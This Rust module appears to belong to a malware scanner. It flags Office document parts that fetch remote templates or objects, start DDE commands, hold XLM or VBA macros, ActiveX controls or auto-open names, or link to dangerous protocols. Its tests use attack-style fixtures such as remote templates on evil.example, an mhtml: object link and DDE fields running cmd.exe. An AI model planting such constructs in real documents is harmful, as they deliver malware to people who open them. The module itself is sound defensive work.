//! Parts of Word, Excel, PowerPoint and Visio files in their zip form, as the walk unpacks them: what they fetch from
//! elsewhere, embed or start. Each part is judged alone, by its path within the document.

use super::bytes::{cut, find, lossy};
use super::links;
use super::markup::{Token, attribute, attributes, local_name, tokens, unescape};
use super::office_ole::{say_dde, say_macro_sheets};
use super::ole::Ole;
use super::report::Report;
use super::vba;
use super::xml;

const PART_BYTES_MAX: usize = 32 << 20;
const TOKENS_MAX: usize = 2_000_000;
/// Field instructions gathered from one part.
const INSTRUCTION_BYTES_MAX: usize = 64 << 10;

pub fn inspect(path: &str, data: &[u8], report: &mut dyn Report) {
    let path = path.replace('\\', "/").to_ascii_lowercase();
    let data = data.get(..PART_BYTES_MAX.min(data.len())).unwrap_or_default();
    let name = path.rsplit('/').next().unwrap_or_default();
    let is_xml = path.ends_with(".xml") || path.ends_with(".rels") || path.ends_with(".vml");
    if path.ends_with(".rels") {
        relations(&lossy(data), report);
    } else if path.contains("/macrosheets/") && !path.ends_with(".rels") {
        report.fact("files/office-xlm", name);
    } else if path.contains("/activex/") && path.ends_with(".xml") {
        report.fact("files/office-activex", name);
    } else if path.contains("/externallinks/") {
        external_link(&path, data, report);
    } else if path.contains("/embeddings/") && data.starts_with(b"\xd0\xcf\x11\xe0") && path.ends_with(".bin") {
        report.fact("files/office-embedded-object", name);
    } else if name == "vbaproject.bin" && Ole::parse(data).is_none_or(|ole| vba::project_in(&ole).is_none()) {
        // Broken for us need not be broken for Office.
        report.fact("files/office-macro", "a macro project that cannot be read");
    } else if path.contains("/slides/") && find(data, b"ppaction://program").is_some() {
        report.fact("files/office-protocol-link", "a slide that starts a program");
    } else if name == "workbook.xml" {
        workbook(&lossy(data), report);
    } else if path.ends_with(".xml") && contains_instructions(data) {
        fields(&lossy(data), report);
    }
    // Without its mark of UTF-16, a part that declares entities says so in plain letters.
    if is_xml && (find(data, b"<!ENTITY").is_some() || data.starts_with(b"\xff\xfe") || data.starts_with(b"\xfe\xff")) {
        xml::doctype(&lossy(data.get(..(256 << 10).min(data.len())).unwrap_or_default()), report);
    }
}

/// Targets outside the document. A link that must be clicked goes to the second round; what Office fetches by itself is a
/// fact.
fn relations(text: &str, report: &mut dyn Report) {
    for token in tokens(text).take(TOKENS_MAX) {
        let Token::Tag { name, attributes: raw, closes: false } = token else { continue };
        if local_name(name) != "Relationship" {
            continue;
        }
        let kind =
            attribute(raw, "Type").unwrap_or_default().rsplit('/').next().unwrap_or_default().to_ascii_lowercase();
        let target = unescape(attribute(raw, "Target").unwrap_or_default());
        // What a part is stands here, whatever it is called.
        if matches!(kind.as_str(), "xlmacrosheet" | "xlintlmacrosheet") {
            report.fact("files/office-xlm", cut(&target, 140));
        }
        if !attribute(raw, "TargetMode").is_some_and(|mode| mode.eq_ignore_ascii_case("External")) {
            continue;
        }
        let remote = is_remote(&target);
        let shown = cut(&target, 140);
        match kind.as_str() {
            "attachedtemplate" if remote => report.fact("files/office-remote-template", shown),
            "oleobject" | "package" => report.fact("files/office-remote-object", shown),
            "frame" | "subdocument" | "afchunk" if remote => report.fact("files/office-remote-object", shown),
            _ => {}
        }
        let lower = target.to_ascii_lowercase();
        if lower.starts_with("mhtml:")
            || lower.starts_with("ms-msdt:")
            || lower.starts_with("search-ms:")
            || lower.starts_with("ms-officecmd:")
        {
            report.fact("files/office-protocol-link", shown);
        }
        let script = lower.strip_prefix("javascript:").or_else(|| lower.strip_prefix("vbscript:"));
        if script.is_some_and(|rest| rest.contains(|c: char| c.is_alphanumeric())) {
            report.fact("files/office-protocol-link", shown);
        }
        links::say(&target, report);
    }
}

/// On another computer: a web address or a share. A file on the author's own disk is not.
fn is_remote(target: &str) -> bool {
    let lower = target.trim().to_ascii_lowercase().replace('\\', "/");
    let share = lower.strip_prefix("file:").unwrap_or(&lower);
    // Two slashes stand before a host; three before a path of this machine's; Word takes four and more for a share again.
    let plain = share.trim_start_matches('/');
    let host = (!matches!(share.len() - plain.len(), 0 | 1 | 3)).then_some(plain);
    let on_share = host.is_some_and(|host| {
        let name = host.split('/').next().unwrap_or_default();
        !name.is_empty() && name != "localhost" && !name.contains(':')
    });
    on_share || ["http:", "https:", "ftp:", "mhtml:", "webdav:"].iter().any(|scheme| lower.starts_with(scheme))
}

fn contains_instructions(data: &[u8]) -> bool {
    find(data, b"instrText").is_some() || find(data, b"fldSimple").is_some()
}

/// Field instructions, split over runs by those who hide them, in document order.
fn fields(text: &str, report: &mut dyn Report) {
    let (mut instruction, mut inside) = (String::new(), false);
    for token in tokens(text).take(TOKENS_MAX) {
        match token {
            Token::Tag { name, attributes: raw, closes } => match local_name(name) {
                "instrText" => inside = !closes,
                "fldSimple" if !closes => {
                    instruction.push_str(&unescape(attribute(raw, "w:instr").unwrap_or_default()));
                    instruction.push('\n');
                }
                // QUOTE fields spell the command in numbers; their parts still stand between the same marks.
                "fldChar" if attribute(raw, "w:fldCharType") == Some("end") => instruction.push('\n'),
                _ => {}
            },
            Token::Text(text) if inside => instruction.push_str(&unescape(text)),
            _ => {}
        }
        if instruction.len() > INSTRUCTION_BYTES_MAX {
            break;
        }
    }
    xml::say_field(&instruction, report);
    for line in instruction.lines() {
        if let Some((_, rest)) = line.split_once("HYPERLINK") {
            links::say(rest.trim().trim_start_matches('"').split('"').next().unwrap_or_default(), report);
        }
    }
}

/// `xl/externalLinks/`: another workbook is plain; a DDE service is not.
fn external_link(path: &str, data: &[u8], report: &mut dyn Report) {
    if path.ends_with(".bin") {
        return binary_external_link(data, report);
    }
    for token in tokens(&lossy(data)).take(TOKENS_MAX) {
        let Token::Tag { name, attributes: raw, closes: false } = token else { continue };
        if local_name(name) == "ddeLink" {
            let service = unescape(attribute(raw, "ddeService").unwrap_or_default());
            let topic = unescape(attribute(raw, "ddeTopic").unwrap_or_default());
            say_dde(&format!("{service}|{topic}"), report);
        }
    }
}

/// BrtBeginSupBook of an `.xlsb`: type 1 is DDE, followed by service and topic as wide strings.
fn binary_external_link(data: &[u8], report: &mut dyn Report) {
    use super::bytes::{index, take, u16_le, u32_le, utf16_le};
    let (Some(0x68), Some(0x02)) = (data.first().map(|b| b & 0x7f), data.get(1)) else { return };
    let Some(body) = data.get(3..) else { return };
    if u16_le(body, 0) != Some(1) {
        return;
    }
    let text = |at: usize| -> Option<(String, usize)> {
        let bytes = index(u32_le(body, at)?).checked_mul(2)?;
        Some((utf16_le(take(body, at + 4, bytes)?), at + 4 + bytes))
    };
    let Some((service, next)) = text(2) else { return };
    let topic = text(next).map(|(topic, _)| topic).unwrap_or_default();
    say_dde(&format!("{service}|{topic}"), report);
}

/// Names that start by themselves, and hidden sheets of macros.
fn workbook(text: &str, report: &mut dyn Report) {
    let auto_open = tokens(text).take(TOKENS_MAX).any(|token| {
        matches!(token, Token::Tag { name, attributes: raw, closes: false } if local_name(name) == "definedName"
        && attributes(raw).any(|(key, value)| key == "name" && {
            let value = value.to_ascii_lowercase();
            let value = value.trim_start_matches("_xlnm.");
            value.starts_with("auto_open") || value.starts_with("auto_close") || value.starts_with("auto_activate")
        }))
    });
    if auto_open {
        say_macro_sheets(&[("Auto_Open".to_owned(), false)], true, report);
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::formats::report::tests::Seen;

    fn seen(path: &str, data: &str) -> Seen {
        let mut seen = Seen::default();
        inspect(path, data.as_bytes(), &mut seen);
        seen
    }

    #[test]
    fn what_is_fetched_from_elsewhere() {
        let check = |kind: &str, target: &str, expect: &[&str]| {
            let text = format!(
                "<Relationships><Relationship Id='r1' Type='http://x/{kind}' Target='{target}' TargetMode='External'/></Relationships>"
            );
            assert_eq!(seen("word/_rels/document.xml.rels", &text).rules(), expect, "{kind} {target}");
        };
        check("hyperlink", "https://example.com/", &[]);
        check("hyperlink", "file:///C:\\a.doc", &[]);
        check("attachedTemplate", "https://evil.example/t.dotm", &["files/office-remote-template"]);
        check("attachedTemplate", "\\\\evil.example\\t.dotm", &["files/office-remote-template"]);
        check("attachedTemplate", "file://///192.0.2.1/t.dotm", &["files/office-remote-template"]);
        check("attachedTemplate", "file:////evil.example/t.dotm", &["files/office-remote-template"]);
        check("attachedTemplate", "file:///srv/t.dotm", &[]);
        check("attachedTemplate", "file:///C:\\Users\\me\\Normal.dotm", &[]);
        check("oleObject", "https://evil.example/a.doc", &["files/office-remote-object"]);
        check(
            "oleObject",
            "mhtml:https://evil.example/a!x-usc:b",
            &["files/office-remote-object", "files/office-protocol-link"],
        );
        check("image", "file://localhost/a.png", &[]);
        check("externalLinkPath", "book2.xlsx", &[]);
        check("xlMacrosheet", "worksheets/sheet2.bin", &["files/office-xlm"]);
    }

    #[test]
    fn parts_that_start_something() {
        let check = |path: &str, data: &str, expect: &[&str]| assert_eq!(seen(path, data).rules(), expect, "{path}");
        check("xl/macrosheets/sheet1.xml", "<xm:macrosheet/>", &["files/office-xlm"]);
        check("word/vbaProject.bin", "broken", &["files/office-macro"]);
        check(
            "ppt/slides/slide1.xml",
            "<a:hlinkMouseOver action='ppaction://program'/>",
            &["files/office-protocol-link"],
        );
        check("ppt/slides/slide1.xml", "<a:hlinkClick action='ppaction://hlinksldjump'/>", &[]);
        check("xl/activeX/activeX1.xml", "<ax:ocx/>", &["files/office-activex"]);
        check(
            "xl/externalLinks/externalLink1.xml",
            "<externalLink><ddeLink ddeService='cmd' ddeTopic=' /c calc'/></externalLink>",
            &["files/office-dde"],
        );
        check(
            "xl/externalLinks/externalLink1.xml",
            "<externalLink><ddeLink ddeService='Bloomberg' ddeTopic='x'/></externalLink>",
            &["files/office-dde-link"],
        );
        check("xl/externalLinks/externalLink1.xml", "<externalLink><externalBook/></externalLink>", &[]);
        check("xl/workbook.xml", "<definedName name='_xlnm.Auto_Open'>x</definedName>", &["files/office-xlm-autorun"]);
        check(
            "word/document.xml",
            "<w:instrText>DDE</w:instrText><w:r/><w:instrText>AUTO c:\\cmd.exe /k</w:instrText>",
            &["files/office-dde"],
        );
        check("word/document.xml", "<w:instrText>PAGE</w:instrText>", &[]);
    }

    #[test]
    fn links_to_click_go_on() {
        let seen = seen("word/document.xml", "<w:instrText>HYPERLINK \"https://a.example/x\"</w:instrText>");
        assert_eq!(seen.links, ["https://a.example/x"]);
    }
}
